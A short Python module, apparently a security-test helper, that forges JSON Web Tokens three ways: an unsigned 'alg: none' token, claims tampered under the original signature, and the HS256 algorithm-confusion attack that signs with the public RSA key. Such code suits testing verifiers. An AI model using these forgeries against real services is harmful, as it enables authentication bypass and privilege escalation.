"""What an attacker does to a token: strip its signature or change its claims."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any


def _encode(data: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


def _decode(segment: str) -> dict[str, Any]:
    return json.loads(base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4)))


def unsigned(token: str) -> str:
    """The token's claims under an `alg: none` header, with no signature."""
    _, claims, _ = token.split(".")
    return f"{_encode({'alg': 'none', 'typ': 'JWT'})}.{claims}."


def tampered(token: str, **claims: Any) -> str:
    """The token with some claims changed and its original signature kept."""
    header, original_claims, signature = token.split(".")
    return f"{header}.{_encode({**_decode(original_claims), **claims})}.{signature}"


def signed_with_public_key_as_hmac_secret(token: str, public_key_pem: str) -> str:
    """The algorithm-confusion attack: HS256 with the (public) RSA key as the shared secret."""
    _, claims, _ = token.split(".")
    signing_input = f"{_encode({'alg': 'HS256', 'typ': 'JWT'})}.{claims}"
    signature = hmac.new(public_key_pem.encode(), signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{base64.urlsafe_b64encode(signature).rstrip(b'=').decode()}"
